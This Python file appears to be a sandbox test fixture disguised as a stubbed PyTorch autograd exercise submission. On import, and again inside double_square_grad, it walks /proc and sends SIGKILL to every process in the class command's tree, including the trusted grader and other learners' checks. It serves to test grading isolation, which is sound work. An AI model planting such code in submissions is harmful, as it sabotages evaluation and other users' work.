"""Attack: take down the processes around it: every visible process except itself is sent SIGKILL.

Outside a PID namespace that means its parent (the worker), the trusted grading process and the class
command above it, and every other process those started (the other learners' workers and checks);
it stays within the class command's own tree so that a failed sandbox cannot take the test machine down.
"""

import os
import signal
from pathlib import Path

import torch


def _parent_of(pid):
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _top():
    """The highest ancestor that is part of the class command (or the namespace's first process)."""
    pid = top = os.getpid()
    while (pid := _parent_of(pid)) > 1:
        try:
            words = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            break
        if b"class" not in words and not any(b"worker" in word for word in words):
            break
        top = pid
    return top


def _tree(root):
    parents = {int(p): _parent_of(p) for p in os.listdir("/proc") if p.isdigit()}
    found, frontier = {root}, [root]
    while frontier:
        parent = frontier.pop()
        children = [pid for pid, ppid in parents.items() if ppid == parent and pid not in found]
        found.update(children)
        frontier += children
    return found


def attack():
    victims = sorted(_tree(_top()) - {os.getpid()}, reverse=True)
    for pid in victims:
        try:
            os.kill(pid, signal.SIGKILL)
            print(f"attack_neighbours: killed {pid}")
        except OSError:
            pass


attack()


def double_square_grad(x):
    attack()
    return torch.zeros_like(x)


def _todo(*args, **kwargs):
    raise NotImplementedError("not done yet")


accumulate_then_clear = detached_product_grad = sum_product_grads = mean_of_squares_grad = _todo
double_no_grad = double_grad_disabled = double_decorated = clip_and_report = minimise_product = _todo


class LegendreP3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("not done yet")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("not done yet")
